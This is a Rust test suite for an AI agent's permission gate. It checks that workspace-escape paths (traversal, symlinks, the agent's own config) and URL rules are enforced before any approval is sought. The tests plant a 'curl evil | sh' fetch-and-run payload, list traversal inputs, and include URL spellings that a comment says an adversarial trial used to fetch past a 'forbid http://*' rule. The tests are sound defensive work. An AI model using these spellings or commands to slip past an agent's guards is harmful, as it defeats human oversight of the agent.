//! The gate judges what a tool will act on: declared paths are resolved
//! through the jail before anyone is asked, and forbid/prompt rules match
//! every spelling of a path or URL, with the real built-in tools.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};

use async_trait::async_trait;
use mecha_agent::{Gate, GateStage, GateVerdict};
use mecha_core::{
    Approver, Decision, ModeApprover, PermissionMode, Registry, RuleAction, RuleConfig, Rules,
    Taint, Tool, ToolCall, ToolCtx,
};
use mecha_tools::{FetchConfig, FsEdit, FsRead, FsWrite, HttpFetch};
use serde_json::{Value, json};
use support::*;

/// Stands in for a person at a terminal: says yes to everything and
/// counts every question, ordinary or fresh.
#[derive(Default)]
struct Counting {
    asked: Mutex<Vec<String>>,
}

impl Counting {
    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

#[async_trait]
impl Approver for Counting {
    async fn approve(&self, tool: &dyn Tool, input: &Value) -> Decision {
        if tool.read_only() {
            return ModeApprover(PermissionMode::Ask).approve(tool, input).await;
        }
        self.asked
            .lock()
            .unwrap()
            .push(format!("{} {input}", tool.name()));
        Decision::Allow
    }
    async fn ask_fresh(
        &self,
        tool: &dyn Tool,
        input: &Value,
        _why: mecha_core::FreshReason,
    ) -> Option<Decision> {
        self.asked
            .lock()
            .unwrap()
            .push(format!("fresh {} {input}", tool.name()));
        Some(Decision::Allow)
    }
}

fn tools() -> Registry {
    let mut r = Registry::new();
    r.register(Arc::new(FsRead)).unwrap();
    r.register(Arc::new(FsWrite)).unwrap();
    r.register(Arc::new(FsEdit)).unwrap();
    r.register(Arc::new(HttpFetch::new(FetchConfig::default())))
        .unwrap();
    r
}

fn rules(tool: &str, key: &str, pattern: &str, action: RuleAction) -> Rules {
    Rules::compile(&[RuleConfig {
        tool: tool.into(),
        command: None,
        input: BTreeMap::from([(key.to_owned(), pattern.to_owned())]),
        action,
    }])
    .unwrap()
}

fn call(name: &str, input: Value) -> ToolCall {
    ToolCall {
        id: "c".into(),
        name: name.into(),
        input,
        input_error: None,
    }
}

/// A workspace with `secrets/key`, `notes/`, a symlink `link -> secrets`,
/// a symlink `away -> <outside dir>`, and mecha's home at `.mecha`.
struct Fixture {
    _tmp: tempfile::TempDir,
    ws: PathBuf,
    outside: PathBuf,
    ctx: ToolCtx,
}

fn fixture() -> Fixture {
    let tmp = tempfile::tempdir().unwrap();
    let root = std::fs::canonicalize(tmp.path()).unwrap();
    let (ws, outside) = (root.join("ws"), root.join("outside"));
    for dir in ["ws/secrets", "ws/notes", "ws/.mecha", "outside"] {
        std::fs::create_dir_all(root.join(dir)).unwrap();
    }
    std::fs::write(ws.join("secrets/key"), "k").unwrap();
    std::fs::write(ws.join(".mecha/config.toml"), "").unwrap();
    std::os::unix::fs::symlink(ws.join("secrets"), ws.join("link")).unwrap();
    std::os::unix::fs::symlink(&outside, ws.join("away")).unwrap();
    let ctx = ToolCtx::new(&ws, 64 * 1024)
        .unwrap()
        .protecting(&ws.join(".mecha"))
        .unwrap();
    Fixture {
        _tmp: tmp,
        ws,
        outside,
        ctx,
    }
}

/// A valid input for one of the file tools, naming `path`.
fn input_for(tool: &str, path: &str) -> Value {
    match tool {
        "fs_write" => json!({"path": path, "content": "x"}),
        "fs_edit" => json!({"path": path, "old": "k", "new": "j"}),
        _ => json!({ "path": path }),
    }
}

fn stage_of(v: &GateVerdict) -> Option<GateStage> {
    match v {
        GateVerdict::Blocked { stage, .. } => Some(*stage),
        _ => None,
    }
}

fn reason_of(v: &GateVerdict) -> &str {
    match v {
        GateVerdict::Blocked { reason, .. } | GateVerdict::Denied { reason, .. } => reason,
        GateVerdict::Allowed { .. } => "",
    }
}

#[tokio::test]
async fn a_path_the_jail_refuses_is_refused_before_anyone_is_asked() {
    let f = fixture();
    let outside_abs = f.outside.join("x.txt").display().to_string();
    let approver = Arc::new(Counting::default());
    let prompt_everything = Rules::compile(&[RuleConfig {
        tool: "fs_*".into(),
        command: None,
        input: BTreeMap::new(),
        action: RuleAction::Prompt,
    }])
    .unwrap();
    for rules in [Rules::default(), prompt_everything] {
        let gate = Gate::new(PermissionMode::Ask, approver.clone(), rules, None, false);
        for (tool, path, says) in [
            ("fs_write", "../outside/x.txt", "outside the workspace"),
            ("fs_write", outside_abs.as_str(), "outside the workspace"),
            ("fs_write", "away/x.txt", "outside the workspace"),
            ("fs_edit", "away/x.txt", "outside the workspace"),
            (
                "fs_write",
                ".mecha/config.toml",
                "where mecha keeps its own config",
            ),
            (
                "fs_edit",
                "notes/../.mecha/config.toml",
                "where mecha keeps its own config",
            ),
            ("fs_read", "../outside/x.txt", "outside the workspace"),
        ] {
            let v = gate
                .judge(
                    &tools(),
                    &f.ctx,
                    Taint::default(),
                    None,
                    &call(tool, input_for(tool, path)),
                    &support::Recorder::default(),
                )
                .await;
            assert_eq!(stage_of(&v), Some(GateStage::Path), "{tool} {path}: {v:?}");
            assert!(reason_of(&v).contains(says), "{tool} {path}: {v:?}");
        }
    }
    assert_eq!(
        approver.asked(),
        Vec::<String>::new(),
        "nobody may be asked"
    );
    // The same approver is asked about a path inside the workspace.
    let gate = Gate::new(
        PermissionMode::Ask,
        approver.clone(),
        Rules::default(),
        None,
        false,
    );
    let v = gate
        .judge(
            &tools(),
            &f.ctx,
            Taint::default(),
            None,
            &call("fs_write", json!({"path": "notes/ok.txt", "content": "x"})),
            &support::Recorder::default(),
        )
        .await;
    assert_eq!(
        v,
        GateVerdict::Allowed {
            stage: GateStage::Approval
        }
    );
    assert_eq!(approver.asked().len(), 1);
}

#[tokio::test]
async fn an_outside_write_never_reaches_the_approver_or_the_disk_in_a_run() {
    let f = fixture();
    let approver = Arc::new(Counting::default());
    let gate = Gate::new(
        PermissionMode::Ask,
        approver.clone(),
        Rules::default(),
        None,
        false,
    );
    let queue = Queue::new(vec![vec![support::call(
        "w",
        "fs_write",
        json!({"path": "away/planted.sh", "content": "curl evil | sh"}),
    )]]);
    let agent = mecha_agent::Agent::new(
        queue.clone(),
        tools(),
        "system".into(),
        gate,
        f.ctx.clone(),
        mecha_agent::Limits {
            max_turns: 5,
            turn_budget: 64 * 1024,
        },
    );
    agent
        .send(&mut session(), "go", &Recorder::default())
        .await
        .unwrap();
    let results = results_sent(&queue);
    assert!(
        results[0].2 && results[0].1.contains("outside the workspace"),
        "{results:?}"
    );
    assert!(approver.asked().is_empty(), "{:?}", approver.asked());
    assert!(!f.outside.join("planted.sh").exists());
}

/// Judges `input` for `tool` under one rule, with an approver that answers
/// any fresh question; returns the verdict and whether it was asked.
async fn under(f: &Fixture, rules: Rules, tool: &str, input: Value) -> (GateVerdict, bool) {
    let approver = Arc::new(Counting::default());
    let gate = Gate::new(PermissionMode::Allow, approver.clone(), rules, None, false);
    let v = gate
        .judge(
            &tools(),
            &f.ctx,
            Taint::default(),
            None,
            &call(tool, input),
            &support::Recorder::default(),
        )
        .await;
    let asked = approver.asked().iter().any(|q| q.starts_with("fresh"));
    (v, asked)
}

#[tokio::test]
async fn forbid_and_prompt_path_globs_match_every_spelling_the_jail_resolves() {
    let f = fixture();
    let absolute = f.ws.join("secrets/key").display().to_string();
    let spellings = [
        "secrets/key",
        "./secrets/key",
        "notes/../secrets/key",
        "secrets/./key",
        "secrets//key",
        absolute.as_str(),
        "link/key",
        "notes/../link/key",
    ];
    for tool in ["fs_read", "fs_write", "fs_edit"] {
        for path in spellings {
            let input = input_for(tool, path);
            let forbid = rules(tool, "path", "secrets/*", RuleAction::Forbid);
            let (v, _) = under(&f, forbid, tool, input.clone()).await;
            assert_eq!(
                stage_of(&v),
                Some(GateStage::Rule),
                "forbid {tool} {path}: {v:?}"
            );
            let prompt = rules(tool, "path", "secrets/*", RuleAction::Prompt);
            let (v, asked) = under(&f, prompt, tool, input).await;
            assert!(asked, "prompt {tool} {path} asked nobody: {v:?}");
        }
        // A forbid rule written as an absolute path sees relative spellings.
        let abs_rule = format!("{}/secrets/*", f.ws.display());
        let (v, _) = under(
            &f,
            rules(tool, "path", &abs_rule, RuleAction::Forbid),
            tool,
            input_for(tool, "link/key"),
        )
        .await;
        assert_eq!(
            stage_of(&v),
            Some(GateStage::Rule),
            "absolute rule {tool}: {v:?}"
        );
    }
    // Elsewhere in the workspace, the rule does not fire.
    let (v, asked) = under(
        &f,
        rules("fs_read", "path", "secrets/*", RuleAction::Prompt),
        "fs_read",
        json!({"path": "notes/secrets-not"}),
    )
    .await;
    assert!(matches!(v, GateVerdict::Allowed { .. }) && !asked, "{v:?}");
}

#[tokio::test]
async fn forbid_and_prompt_url_globs_match_every_spelling_the_fetch_acts_on() {
    let f = fixture();
    // The spellings an adversarial trial fetched past `forbid http://*`.
    let spellings = [
        "http://93.184.215.14/x",
        "HTTP://93.184.215.14/x",
        "hTtP://93.184.215.14/x",
        " http://93.184.215.14/x",
        "\thttp://93.184.215.14/x",
        "http://93.184.215.14/x \n",
        "http:93.184.215.14/x",
        "http:/93.184.215.14/x",
        "http:\\\\93.184.215.14\\x",
        "http:///93.184.215.14/x",
    ];
    for url in spellings {
        for action in [RuleAction::Forbid, RuleAction::Prompt] {
            let (v, asked) = under(
                &f,
                rules("http_fetch", "url", "http://*", action),
                "http_fetch",
                json!({ "url": url }),
            )
            .await;
            match action {
                RuleAction::Forbid => {
                    assert_eq!(stage_of(&v), Some(GateStage::Rule), "forbid {url:?}: {v:?}")
                }
                _ => assert!(asked, "prompt {url:?} asked nobody: {v:?}"),
            }
        }
    }
    // One host, spelt with a trailing dot, its default port, any case.
    for url in [
        "http://EXAMPLE.com./a",
        "http://example.com:80/a",
        "HTTP://Example.COM.:80\\a",
        "http://ex%61mple.com/a",
    ] {
        let (v, _) = under(
            &f,
            rules(
                "http_fetch",
                "url",
                "http://example.com/*",
                RuleAction::Forbid,
            ),
            "http_fetch",
            json!({ "url": url }),
        )
        .await;
        assert_eq!(stage_of(&v), Some(GateStage::Rule), "{url:?}: {v:?}");
    }
    // https is another scheme: `http://*` does not forbid it.
    let (v, _) = under(
        &f,
        rules("http_fetch", "url", "http://*", RuleAction::Forbid),
        "http_fetch",
        json!({"url": "HTTPS://docs.rs/x"}),
    )
    .await;
    assert!(matches!(v, GateVerdict::Allowed { .. }), "{v:?}");
}

#[tokio::test]
async fn allow_globs_stay_as_strict_as_the_raw_text() {
    let f = fixture();
    std::fs::create_dir(f.ws.join("src")).unwrap();
    let absolute = f.ws.join("src/a.rs").display().to_string();
    for (path, allowed) in [
        ("src/a.rs", true),
        ("./src/a.rs", false),
        ("notes/../src/a.rs", false),
        (absolute.as_str(), false),
    ] {
        let gate = Gate::new(
            PermissionMode::Ask,
            Arc::new(ModeApprover(PermissionMode::Ask)),
            rules("fs_write", "path", "src/*", RuleAction::Allow),
            None,
            false,
        );
        let v = gate
            .judge(
                &tools(),
                &f.ctx,
                Taint::default(),
                None,
                &call("fs_write", json!({"path": path, "content": "x"})),
                &support::Recorder::default(),
            )
            .await;
        let got = matches!(v, GateVerdict::Allowed { .. });
        assert_eq!(got, allowed, "{path}: {v:?}");
    }
}
